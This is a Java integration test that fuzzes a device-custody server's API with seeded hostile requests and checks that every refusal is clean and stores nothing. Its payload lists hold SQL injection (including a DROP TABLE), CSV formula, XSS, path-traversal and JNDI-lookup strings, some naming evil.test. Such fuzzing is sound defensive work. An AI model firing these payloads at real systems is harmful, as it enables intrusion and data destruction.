package dev.custody.server.fuzz;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.custody.server.support.Api;
import dev.custody.server.support.Api.Response;
import dev.custody.testing.Await;
import dev.custody.server.support.CustodyIT;
import dev.custody.server.support.Requests;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.JdbcTemplate;

import java.io.UncheckedIOException;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.UUID;
import java.util.function.Function;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Issue 9 §2: a seeded storm of hostile requests against every command and query endpoint. Each request starts from
 * a valid one and is spoiled: wrong types, nulls, extreme numbers, times and dates, Unicode (combining marks,
 * right-to-left overrides, emoji, lone surrogates escaped in JSON, invalid UTF-8), oversize text, lists and bodies
 * (chunked too), injection strings (SQL, CSV formulas, HTML, path traversal, template and JNDI lookups), hostile
 * headers (Idempotency-Key, If-Match, Content-Type, Accept), hostile query strings and path segments, wrong users.
 * <p>
 * It asserts that no answer is a 5xx, that every refusal is problem+json with its rule, that no refusal stored an
 * event (per device, around each request, and overall: the events stored during the storm are exactly the accepted
 * commands), and that the read side still catches up afterwards.
 * <p>
 * A seeded generator inside a JUnit 5 test rather than jqwik: a jqwik property runs on its own engine, outside
 * Spring's test context cache, so it would start a second server with its own PostgreSQL and Kafka (about half a
 * minute) instead of sharing {@link CustodyIT}'s; and one long storm with a per-request check and a printed tally is
 * what the issue asks for, not shrinking. The seed is fixed, so CI runs are reproducible; pass
 * {@code -Dcustody.fuzz.seed=N} (and {@code -Dcustody.fuzz.requests=N}) to explore others. Every failure names its
 * seed and request.
 */
class HostileInputIT extends CustodyIT {

    private static final long SEED = Long.getLong("custody.fuzz.seed", 20261201L);
    private static final int REQUESTS = Integer.getInteger("custody.fuzz.requests", 1200);
    private static final String NOTIFIER = "custody-notifier";

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    /** Placeholders replaced in the JSON text by escapes that no Java string can carry through a JSON writer. */
    private static final String LONE_HIGH = "\uE000lone-high\uE000";
    private static final String LONE_LOW = "\uE000lone-low\uE000";

    @Autowired
    JdbcTemplate jdbc;

    private Random random;
    private final List<String> targets = new ArrayList<>();
    private final Map<String, int[]> tally = new TreeMap<>();
    private final List<String> failures = new ArrayList<>();
    private final Set<String> seized = new HashSet<>();
    private int accepted;

    /** One request of the storm, as sent. */
    private record Hostile(String endpoint, String user, String method, String path, byte[] body, boolean chunked,
                           Map<String, String> headers, String device, String newDevice) {
        @Override
        public String toString() {
            String text = body == null ? "" : new String(body, StandardCharsets.UTF_8);
            return method + " " + abbreviate(path) + " as " + user + " " + headers + " "
                    + abbreviate(text) + (chunked ? " (chunked)" : "");
        }
    }

    /** How an endpoint's valid request is made, before it is spoiled. */
    private record Endpoint(String name, String method, String path, List<String> users, Function<Instant, ObjectNode> body,
                            List<String> query) {
        boolean command() {
            return body != null && !name.startsWith("contact") && !name.startsWith("acknowledge");
        }
    }

    private static final List<String> USERS = List.of("officer", "lab", "supervisor", "inspector", "met-officer",
            "met-lab", "admin", "scraper", Api.BEARER + "not.a.token");

    private final List<Endpoint> endpoints = List.of(
            command("seize", "/api/v1/devices", "officer", HostileInputIT::seizure),
            command("reseize", "/api/v1/devices/{id}/seizures", "officer", HostileInputIT::seizure),
            command("transfer", "/api/v1/devices/{id}/transfers", "officer", t -> json("""
                    {"occurredAt":"%s","to":{"kind":"COURIER","name":"Courier 42"},
                     "sealCheck":{"sealNumber":"SEAL-001","intact":true}}""", t)),
            command("lab-receipt", "/api/v1/devices/{id}/lab-receipt", "lab", t -> json(
                    "{\"occurredAt\":\"%s\",\"sealCheck\":{\"sealNumber\":\"SEAL-001\",\"intact\":true}}", t)),
            command("download", "/api/v1/devices/{id}/downloads", "lab", t -> json(
                    "{\"occurredAt\":\"%s\",\"tool\":\"UFED 7.6\",\"extractionType\":\"LOGICAL\"}", t)),
            command("download-completion", "/api/v1/devices/{id}/downloads/{n}/completion", "lab", t -> json(
                    "{\"occurredAt\":\"%s\",\"sha256\":\"" + "a".repeat(64) + "\",\"sizeBytes\":64000}", t)),
            command("download-failure", "/api/v1/devices/{id}/downloads/{n}/failure", "lab", t -> json(
                    "{\"occurredAt\":\"%s\",\"reason\":\"The cable failed\"}", t)),
            command("download-verification", "/api/v1/devices/{id}/downloads/{n}/verification", "lab", t -> json(
                    "{\"occurredAt\":\"%s\",\"sha256\":\"" + "a".repeat(64) + "\"}", t)),
            command("examination", "/api/v1/devices/{id}/examination", "lab", HostileInputIT::step),
            command("examination-completion", "/api/v1/devices/{id}/examination/completion", "lab", t -> json(
                    "{\"occurredAt\":\"%s\",\"relevantMaterialFound\":true,\"summary\":\"Messages found\"}", t)),
            command("replacement", "/api/v1/devices/{id}/replacements", "officer", t -> json(
                    "{\"occurredAt\":\"%s\",\"kind\":\"SWAP_OUT\",\"note\":\"Same number\"}", t)),
            command("replacement-return", "/api/v1/devices/{id}/replacements/{n}/return", "officer", HostileInputIT::step),
            command("retention-extension", "/api/v1/devices/{id}/retention-extensions", "supervisor", t -> json(
                    "{\"occurredAt\":\"%s\",\"until\":\"" + t.plus(30, ChronoUnit.DAYS)
                            + "\",\"reason\":\"A second download is needed\"}", t)),
            command("agreement-withdrawal", "/api/v1/devices/{id}/agreement-withdrawal", "officer", t -> json(
                    "{\"occurredAt\":\"%s\",\"note\":\"Changed her mind\"}", t)),
            command("ready-for-collection", "/api/v1/devices/{id}/ready-for-collection", "officer", t -> json(
                    "{\"occurredAt\":\"%s\",\"note\":\"At the front desk\"}", t)),
            command("return", "/api/v1/devices/{id}/return", "officer", t -> json(
                    "{\"occurredAt\":\"%s\",\"returnedTo\":\"OWNER\",\"note\":\"In person\"}", t)),
            command("victim-notification", "/api/v1/devices/{id}/victim-notifications", "officer", t -> json("""
                    {"occurredAt":"%s","channel":"PHONE_CALL","language":"EN","reason":"Progress update",
                     "messageReference":"call-1"}""", t)),
            new Endpoint("acknowledge-alert", "POST", "/api/v1/alerts/{alert}/acknowledgement", List.of("supervisor"),
                    t -> json("{\"note\":\"Seen and chased%s\"}", null), List.of()),
            new Endpoint("contact-put", "PUT", "/api/v1/contacts/{contact}", List.of("officer"), t -> json("""
                    {"channel":"EMAIL","address":"victim@example.test","language":"en","safeToContact":true%s,
                     "safeHours":{"from":"09:00","until":"17:00","zone":"Europe/London"}}""", null), List.of()),
            query("contact-get", "GET", "/api/v1/contacts/{contact}", "officer"),
            query("contact-delete", "DELETE", "/api/v1/contacts/{contact}", "officer"),
            query("status", "GET", "/api/v1/devices/{id}", "officer"),
            query("status-links", "DELETE", "/api/v1/devices/{id}/status-links", "officer"),
            query("scan", "GET", "/api/v1/scan/{case}", "lab"),
            query("history", "GET", "/api/v1/devices/{id}/history", "inspector"),
            query("search", "GET", "/api/v1/devices", "inspector", "force", "lab", "stage", "ownerRole", "held",
                    "overdue", "page", "size"),
            query("case", "GET", "/api/v1/cases/{case}/devices", "officer"),
            query("lab-queue", "GET", "/api/v1/labs/{lab}/queue", "lab", "limit"),
            query("alerts", "GET", "/api/v1/alerts", "supervisor", "rule", "severity", "force", "state", "ownerRole",
                    "lab", "deviceId", "from", "to", "page", "size"),
            query("alert", "GET", "/api/v1/alerts/{alert}", "supervisor"),
            query("alert-log", "GET", "/api/v1/alert-log", "inspector", "force", "from", "to", "page", "size"),
            query("report", "GET", "/api/v1/reports/retention", "inspector", "from", "to", "force", "lab",
                    "ownerRole", "deviceType"),
            query("report-periods", "GET", "/api/v1/reports/retention/custody-periods", "inspector", "from", "to",
                    "force", "lab", "ownerRole", "deviceType"),
            query("admin-status", "GET", "/api/v1/admin/projections", "admin"),
            query("quarantine", "GET", "/api/v1/admin/quarantine", "admin", "processor", "state", "limit"),
            // Unknown or malformed row ids only: a real retry would touch another test's quarantined event.
            query("quarantine-row", "GET", "/api/v1/admin/quarantine/{alert}", "admin"),
            query("quarantine-retry", "POST", "/api/v1/admin/quarantine/{alert}/retry", "admin"),
            // Never as an admin: a real rebuild would disturb the other tests sharing this server.
            query("admin-rebuild", "POST", "/api/v1/admin/projections/rebuild", "inspector"));

    @Test
    void hostileRequestsNeverBreakTheServerNorStoreAnything() {
        random = new Random(SEED);
        prepareTargets();
        long head = head();
        long started = System.nanoTime();
        try {
            for (int i = 0; i < REQUESTS; i++) {
                Endpoint endpoint = endpoints.get(random.nextInt(endpoints.size()));
                send(i, endpoint.body == null ? spoiledQuery(endpoint) : spoiledBody(endpoint));
            }
        } finally {
            printTally(Duration.ofNanos(System.nanoTime() - started));
        }
        assertThat(failures).as("seed " + SEED + ": " + failures.size() + " bad answers").isEmpty();
        assertThat(tally.values().stream().mapToInt(counts -> counts[5]).sum()).isGreaterThanOrEqualTo(1000);

        assertThat(eventsSince(head)).as("seed " + SEED + ": events stored during the storm are the accepted commands")
                .isEqualTo(accepted);

        // The read side still catches up: every accepted seizure and a normal one after the storm appear.
        String after = seizeVictimPhone();
        for (String id : union(seized, after)) {
            Await.until(Duration.ofSeconds(30), () -> api.get("inspector", "/api/v1/devices/" + id).status(),
                    status -> status == 200);
        }
    }

    // ---- the storm ----

    private Hostile spoiledBody(Endpoint endpoint) {
        Instant t = now().minusSeconds(60);
        ObjectNode body = endpoint.body.apply(t);
        String newDevice = null;
        if (endpoint.name.equals("seize")) {
            newDevice = UUID.randomUUID().toString();
            body.put("deviceId", newDevice);
        }
        String user = pick(endpoint.users);
        Map<String, String> headers = new LinkedHashMap<>();
        headers.put("Content-Type", "application/json");
        byte[] bytes = null;
        boolean chunked = false;
        int kind = random.nextInt(100);
        if (kind < 10) {
            bytes = text(body);
        } else if (kind < 65) {
            for (int n = 1 + random.nextInt(3); n > 0; n--) {
                spoil(body);
            }
            bytes = text(body);
        } else if (kind < 80) {
            bytes = rawBody(body);
            chunked = random.nextInt(4) == 0;
        } else if (kind < 92) {
            bytes = text(body);
            spoilHeaders(headers);
        } else {
            bytes = text(body);
            user = pick(USERS);
        }
        if (random.nextInt(8) == 0) {
            spoilHeaders(headers);
        }
        if (endpoint.name.equals("admin-rebuild") && "admin".equals(user)) {
            user = "inspector";
        }
        String[] path = path(endpoint.path);
        return new Hostile(endpoint.name, user, endpoint.method, path[0], bytes, chunked, headers, path[1], newDevice);
    }

    private Hostile spoiledQuery(Endpoint endpoint) {
        String user = random.nextInt(10) == 0 ? pick(USERS) : pick(endpoint.users);
        if (endpoint.name.equals("admin-rebuild") && "admin".equals(user)) {
            user = "officer";
        }
        String[] path = path(endpoint.path);
        StringBuilder query = new StringBuilder();
        for (String parameter : endpoint.query) {
            if (random.nextInt(3) == 0) {
                continue;
            }
            String value = random.nextInt(3) == 0 ? validParameter(parameter) : pick(hostileParameters());
            query.append(query.isEmpty() ? "?" : "&").append(parameter).append('=')
                    .append(URLEncoder.encode(value, StandardCharsets.UTF_8));
        }
        if (random.nextInt(10) == 0) {
            query.append(query.isEmpty() ? "?" : "&").append(URLEncoder.encode(pick(hostileStrings()),
                    StandardCharsets.UTF_8)).append("=1");
        }
        Map<String, String> headers = new LinkedHashMap<>();
        if (random.nextInt(5) == 0) {
            headers.put("Accept", pick(List.of("application/json", "text/csv", "application/xml", "*/*",
                    "text/html", "garbage", "application/problem+json")));
        }
        byte[] body = null;
        if (random.nextInt(10) == 0) {
            body = pick(List.of("{}", "x".repeat(100), "\u0000")).getBytes(StandardCharsets.UTF_8);
            if (random.nextBoolean()) {
                headers.put("Content-Type", pick(List.of("application/json", "*/*", "text/plain")));
            }
        }
        return new Hostile(endpoint.name, user, endpoint.method, path[0] + query, body, false, headers, path[1], null);
    }

    /** The path with its variables filled: mostly a real device, sometimes something else entirely. */
    private String[] path(String template) {
        String device = pick(targets);
        String path = template;
        if (template.contains("{id}")) {
            int choice = random.nextInt(10);
            String id = choice < 7 ? device : choice < 8 ? UUID.randomUUID().toString() : pickSegment();
            if (!id.equals(device)) {
                device = null;
            }
            path = path.replace("{id}", id);
        } else {
            device = null;
        }
        path = path.replace("{n}", random.nextInt(4) == 0 ? pick(List.of("0", "-1", "2147483648", "one", "1001"))
                : "1");
        path = path.replace("{alert}", random.nextInt(3) == 0 ? pickSegment() : UUID.randomUUID().toString());
        path = path.replace("{contact}", random.nextInt(2) == 0 ? "fuzz-" + random.nextInt(5) : pickSegment());
        path = path.replace("{case}", random.nextInt(2) == 0 ? "DP-2026-0042" : pickSegment());
        path = path.replace("{lab}", random.nextInt(2) == 0 ? "dyfed-powys-dfu" : pickSegment());
        return new String[]{path, device};
    }

    private String pickSegment() {
        return URLEncoder.encode(pick(List.of("not-a-uuid", "..", "%2e%2e", "x".repeat(300), "\u0000", "e\u0301",
                "\u202Eevil", "\uD83D\uDCF1", "' OR 1=1 --", "=cmd|' /C calc'!A0", "<script>alert(1)</script>",
                "../../etc/passwd", "${jndi:ldap://x/a}", "{{7*7}}", " ", "-1", "99999999999999999999")),
                StandardCharsets.UTF_8).replace("+", "%20");
    }

    private void spoil(ObjectNode body) {
        List<String> paths = new ArrayList<>();
        collect(body, "", paths);
        if (paths.isEmpty()) {
            body.set("occurredAt", hostileValue());
            return;
        }
        String target = pick(paths);
        int kind = random.nextInt(10);
        if (kind < 6) {
            set(body, target, hostileValue());
        } else if (kind < 8) {
            remove(body, target);
        } else if (kind < 9) {
            body.set(pick(List.of("actor", "force", "recordedAt", "unknown", "deviceId", "__proto__")), hostileValue());
        } else {
            ArrayNode list = body.has("timeSensitiveData") ? body.withArray("timeSensitiveData") : body.putArray("list");
            int n = pick(List.of(1, 21, 500));
            for (int i = 0; i < n; i++) {
                list.add(random.nextBoolean() ? NODES.nullNode() : hostileValue());
            }
        }
    }

    private JsonNode hostileValue() {
        int kind = random.nextInt(8);
        return switch (kind) {
            case 0 -> pick(List.<JsonNode>of(NODES.nullNode(), NODES.booleanNode(true), NODES.numberNode(0),
                    NODES.numberNode(-1), NODES.numberNode(2147483648L), NODES.numberNode(Long.MAX_VALUE),
                    NODES.numberNode(Long.MIN_VALUE), NODES.numberNode(1e308), NODES.numberNode(1.5),
                    NODES.numberNode(new java.math.BigInteger("99999999999999999999999999999999"))));
            case 1 -> NODES.textNode(pick(hostileInstants()));
            case 2 -> NODES.textNode(pick(List.of("+99999-01-01", "-999999999-01-01", "+999999999-12-31",
                    "1999-01-01", "2026-13-01", "2026-02-30", now().plus(3, ChronoUnit.DAYS).toString().substring(0, 10))));
            case 3 -> NODES.textNode(pick(List.of("0", "1", "victim", "VICTIM ", "TOASTER", "OTHER\u0000", "")));
            case 4 -> pick(List.<JsonNode>of(NODES.arrayNode(), NODES.arrayNode().addNull(),
                    NODES.arrayNode().add(1).add("two").add(NODES.objectNode()), NODES.objectNode(),
                    NODES.objectNode().put("value", "x"), deep(300)));
            default -> NODES.textNode(pick(hostileStrings()));
        };
    }

    private List<String> hostileInstants() {
        Instant now = now();
        return List.of("-0001-01-01T00:00:00Z", "+99999-01-01T00:00:00Z", "+999999999-12-31T23:59:59.999999999Z",
                "-999999999-01-01T00:00:00Z", "1999-12-31T23:59:59Z", "1970-01-01T00:00:00Z",
                now.plus(1, ChronoUnit.HOURS).toString(), now.plus(4, ChronoUnit.MINUTES).toString(),
                now.minus(3650, ChronoUnit.DAYS).toString(), "2026-02-30T00:00:00Z", "yesterday", "2026-01-01",
                "2026-01-01T00:00:00", "2026-01-01T00:00:00+25:00");
    }

    private List<String> hostileStrings() {
        return List.of("", " ", "\t", "\u0000", "a\u0007b", "line\nbreak", "tab\there", "cr\r\nlf", "\u0085next",
                "e\u0301", "Ffo\u0302n", "\u202Eevil\u202C", "\u200F\u05E9\u05DC\u05D5\u05DD", "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
                "\uFEFFbom", "\uFFFF", LONE_HIGH, LONE_LOW, "x" + LONE_HIGH + "y",
                "x".repeat(65), "x".repeat(201), "x".repeat(501), "x".repeat(2001), "x".repeat(4001),
                "\u00e9".repeat(3000), "\uD83D\uDCF1".repeat(2001), "x".repeat(70_000),
                "' OR '1'='1' --", "'; DROP TABLE domain_event_entry; --", "\") OR 1=1; --",
                "=HYPERLINK(\"http://evil.test\",\"x\")", "+SUM(1,1)", "-2+3", "@cmd", "\t=1+1", "\r=1+1",
                "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)",
                "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f", "${jndi:ldap://evil.test/a}",
                "{{7*7}}", "#{7*7}", "%s%s%s%n", "NaN", "null", "true", "0x7fffffff");
    }

    private List<String> hostileParameters() {
        List<String> values = new ArrayList<>(List.of("-1", "0", "2147483648", "99999999999999999999", "abc", "1e3",
                "1.5", "true", "+999999999-12-31", "-999999999-01-01", "+999999999-12-31T23:59:59Z",
                "-999999999-01-01T00:00:00Z", "1999-01-01", "0001-01-01T00:00:00Z", "x".repeat(65),
                "x".repeat(3000), "OPEN", "victim", "RETURN_24H", "met", "dyfed-powys"));
        hostileStrings().stream().filter(s -> s.length() < 600 && !s.contains("\uE000")).forEach(values::add);
        return values;
    }

    private String validParameter(String name) {
        return switch (name) {
            case "page" -> "0";
            case "size", "limit" -> "10";
            case "from" -> now().minus(30, ChronoUnit.DAYS).toString().substring(0, 10);
            case "to" -> now().toString().substring(0, 10);
            case "stage" -> "SEIZED";
            case "ownerRole" -> "VICTIM";
            case "rule" -> "RETURN_24H";
            case "severity" -> "BREACH";
            case "state" -> "OPEN";
            case "deviceType" -> "MOBILE_PHONE";
            case "held", "overdue" -> "true";
            case "deviceId" -> pick(targets);
            case "lab" -> "dyfed-powys-dfu";
            default -> "dyfed-powys";
        };
    }

    private void spoilHeaders(Map<String, String> headers) {
        switch (random.nextInt(3)) {
            case 0 -> headers.put("Idempotency-Key", pick(List.of(UUID.randomUUID().toString(),
                    (UUID.randomUUID() + "k".repeat(255)).substring(0, 255),
                    "k".repeat(256), "k".repeat(300), "", " ", "cl\u00e9", "<script>", "../../etc/passwd",
                    "' OR 1=1 --")));
            case 1 -> headers.put("If-Match", pick(List.of("\"0\"", "*", "W/\"1\"", "\"abc\"",
                    "\"99999999999999999999\"", "\"-1\"", "", "x".repeat(300))));
            default -> {
                String type = pick(List.of("", "*/*", "application/*", "text/plain", "application/xml",
                        "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "garbage", "/",
                        "application/json; charset=ISO-8859-1", "application/json; charset=nonsense",
                        "application/json; charset=UTF-16", "application/problem+json"));
                if (type.isEmpty()) {
                    headers.remove("Content-Type");
                } else {
                    headers.put("Content-Type", type);
                }
            }
        }
    }

    private byte[] rawBody(ObjectNode valid) {
        String text = valid.toString();
        return switch (random.nextInt(12)) {
            case 0 -> new byte[0];
            case 1 -> text.substring(0, text.length() / 2).getBytes(StandardCharsets.UTF_8);
            case 2 -> pick(List.of("[]", "null", "42", "\"text\"", "<xml/>", "a=b&c=d", "{", "}")).getBytes(StandardCharsets.UTF_8);
            case 3 -> text.replace("\"", "'").getBytes(StandardCharsets.UTF_8);
            case 4 -> concat(text.substring(0, 20).getBytes(StandardCharsets.UTF_8), new byte[]{(byte) 0xC3, 0x28,
                    (byte) 0xFF, (byte) 0xFE}, text.substring(20).getBytes(StandardCharsets.UTF_8));
            case 5 -> concat(new byte[]{(byte) 0xFE, (byte) 0xFF}, text.getBytes(StandardCharsets.UTF_16BE));
            case 6 -> ("{\"a\":" + "[".repeat(3000) + "]".repeat(3000) + "}").getBytes(StandardCharsets.UTF_8);
            case 7 -> (text.substring(0, text.length() - 1) + ",\"pad\":\"" + "x".repeat(70_000) + "\"}")
                    .getBytes(StandardCharsets.UTF_8);
            case 8 -> (text.substring(0, text.length() - 1) + ",\"pad\":\"" + "x".repeat(900_000) + "\"}")
                    .getBytes(StandardCharsets.UTF_8);
            case 9 -> (text + text).getBytes(StandardCharsets.UTF_8);
            case 10 -> text.replace("{", "{\"occurredAt\":null,").getBytes(StandardCharsets.UTF_8);
            default -> ("[" + text + "]").getBytes(StandardCharsets.UTF_8);
        };
    }

    // ---- sending and checking ----

    private void send(int index, Hostile request) {
        long before = request.device == null ? 0 : deviceEvents(request.device);
        Response response;
        try {
            HttpRequest.BodyPublisher body = request.body == null ? HttpRequest.BodyPublishers.noBody()
                    : request.chunked ? HttpRequest.BodyPublishers.ofByteArrays(List.of(request.body))
                    : HttpRequest.BodyPublishers.ofByteArray(request.body);
            response = api.sendRaw(request.user, request.method, request.path, body, request.headers);
        } catch (IllegalArgumentException refusedByTheClient) {
            return; // a header or URI java.net.http will not send; not a request the server saw
        } catch (UncheckedIOException e) {
            count(request.endpoint, 0);
            failures.add("#" + index + " no answer (" + e.getCause() + "): " + request);
            return;
        }
        int status = response.status();
        count(request.endpoint, status / 100);
        if (status >= 500) {
            failures.add("#" + index + " " + response.status() + " " + abbreviate(response.text()) + " for " + request);
        } else if (status >= 400) {
            String type = String.valueOf(response.header("Content-Type"));
            JsonNode json = response.json();
            if (!type.startsWith("application/problem+json") || json == null || !json.hasNonNull("rule")
                    || json.path("status").asInt() != status) {
                failures.add("#" + index + " " + status + " not problem+json (" + type + "): "
                        + abbreviate(response.text()) + " for " + request);
            }
            if (request.device != null && deviceEvents(request.device) != before) {
                failures.add("#" + index + " refused with " + status + " but stored an event: " + request);
            }
            if (request.newDevice != null && deviceEvents(request.newDevice) != 0) {
                failures.add("#" + index + " refused with " + status + " but opened a record: " + request);
            }
        } else if (status < 300 && endpoints.stream().anyMatch(e -> e.name.equals(request.endpoint) && e.command())
                && !"true".equals(response.header("Idempotent-Replayed"))) {
            accepted++;
            if (request.endpoint.equals("seize") && response.json() != null) {
                seized.add(response.json().path("deviceId").asText());
            }
        }
    }

    /** @param statusClass the status divided by 100, or 0 when there was no answer */
    private void count(String endpoint, int statusClass) {
        int[] counts = tally.computeIfAbsent(endpoint, e -> new int[6]);
        counts[statusClass >= 2 && statusClass <= 5 ? statusClass - 2 : 4]++;
        counts[5]++;
    }

    private void printTally(Duration storm) {
        StringBuilder out = new StringBuilder("\nHostile input storm: seed " + SEED + ", " + REQUESTS + " requests in "
                + storm.toMillis() + " ms\n");
        out.append(String.format("%-24s %6s %6s %6s %6s %6s %6s%n", "endpoint", "2xx", "3xx", "4xx", "5xx", "other",
                "total"));
        int[] sum = new int[6];
        tally.forEach((endpoint, c) -> {
            out.append(String.format("%-24s %6d %6d %6d %6d %6d %6d%n", endpoint, c[0], c[1], c[2], c[3], c[4], c[5]));
            for (int i = 0; i < 6; i++) {
                sum[i] += c[i];
            }
        });
        out.append(String.format("%-24s %6d %6d %6d %6d %6d %6d%n", "all", sum[0], sum[1], sum[2], sum[3], sum[4],
                sum[5]));
        out.append("accepted commands: ").append(accepted).append(", new records: ").append(seized.size()).append('\n');
        System.out.println(out);
    }

    // ---- the event store ----

    private long head() {
        Long head = jdbc.queryForObject("select max(global_index) from domain_event_entry", Long.class);
        return head == null ? -1 : head;
    }

    /** Events on a device that a caller stored (not the notifier, which records updates on its own). */
    private long deviceEvents(String device) {
        return jdbc.queryForObject("select count(*) from event_log where device_id = ? "
                + "and payload->'actor'->>'id' <> ?", Long.class, device, NOTIFIER);
    }

    private long eventsSince(long head) {
        return jdbc.queryForObject("select count(*) from event_log where global_index > ? "
                + "and payload->'actor'->>'id' <> ?", Long.class, head, NOTIFIER);
    }

    // ---- valid requests ----

    private void prepareTargets() {
        for (int i = 0; i < 6; i++) {
            Response seized = api.post("officer", "/api/v1/devices", seizure(now().minusSeconds(3600)).toString());
            assertThat(seized.status()).as(seized.toString()).isEqualTo(201);
            String id = seized.json().get("deviceId").asText();
            if (i % 2 == 0) {
                Response received = api.post("lab", "/api/v1/devices/" + id + "/lab-receipt",
                        Requests.labReceipt(now().minusSeconds(1800)));
                assertThat(received.status()).as(received.toString()).isEqualTo(200);
            }
            targets.add(id);
        }
    }

    private static ObjectNode seizure(Instant t) {
        ObjectNode body = (ObjectNode) parse(Requests.seize(t, "SUSPECT", "\"2026-01-01\"", "\"2026-03-31\"", null));
        body.remove("victimCare");
        body.remove("contactReference");
        return body;
    }

    private static ObjectNode step(Instant t) {
        return json("{\"occurredAt\":\"%s\"}", t);
    }

    private static ObjectNode json(String template, Instant t) {
        return (ObjectNode) parse(template.formatted(t == null ? "" : t.toString()));
    }

    private static JsonNode parse(String text) {
        try {
            return JSON.readTree(text);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private static Endpoint command(String name, String path, String user, Function<Instant, ObjectNode> body) {
        return new Endpoint(name, "POST", path, List.of(user), body, List.of());
    }

    private static Endpoint query(String name, String method, String path, String user, String... query) {
        return new Endpoint(name, method, path, List.of(user), null, List.of(query));
    }

    // ---- JSON surgery ----

    private static void collect(JsonNode node, String path, List<String> paths) {
        if (!path.isEmpty()) {
            paths.add(path);
        }
        if (node.isObject()) {
            for (Iterator<String> names = node.fieldNames(); names.hasNext(); ) {
                String name = names.next();
                collect(node.get(name), path + "/" + name, paths);
            }
        } else if (node.isArray()) {
            for (int i = 0; i < node.size(); i++) {
                collect(node.get(i), path + "/" + i, paths);
            }
        }
    }

    private static void set(ObjectNode root, String pointer, JsonNode value) {
        int slash = pointer.lastIndexOf('/');
        JsonNode parent = root.at(pointer.substring(0, slash));
        String last = pointer.substring(slash + 1);
        if (parent instanceof ObjectNode object) {
            object.set(last, value);
        } else if (parent instanceof ArrayNode array) {
            array.set(Integer.parseInt(last), value);
        }
    }

    private static void remove(ObjectNode root, String pointer) {
        int slash = pointer.lastIndexOf('/');
        JsonNode parent = root.at(pointer.substring(0, slash));
        String last = pointer.substring(slash + 1);
        if (parent instanceof ObjectNode object) {
            object.remove(last);
        } else if (parent instanceof ArrayNode array) {
            array.remove(Integer.parseInt(last));
        }
    }

    private static JsonNode deep(int depth) {
        ObjectNode root = NODES.objectNode();
        ObjectNode node = root;
        for (int i = 0; i < depth; i++) {
            node = node.putObject("a");
        }
        return root;
    }

    /** The JSON text, with the lone-surrogate placeholders as the escapes a hostile client would write. */
    private static byte[] text(JsonNode body) {
        return body.toString().replace(LONE_HIGH, "\\ud800").replace(LONE_LOW, "\\udc00")
                .getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] concat(byte[]... parts) {
        int length = 0;
        for (byte[] part : parts) {
            length += part.length;
        }
        byte[] all = new byte[length];
        int at = 0;
        for (byte[] part : parts) {
            System.arraycopy(part, 0, all, at, part.length);
            at += part.length;
        }
        return all;
    }

    private <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    private static Set<String> union(Set<String> ids, String one) {
        Set<String> all = new HashSet<>(ids);
        all.add(one);
        return all;
    }

    private static String abbreviate(String text) {
        return text == null || text.length() <= 300 ? text : text.substring(0, 300) + "… (" + text.length() + " chars)";
    }
}
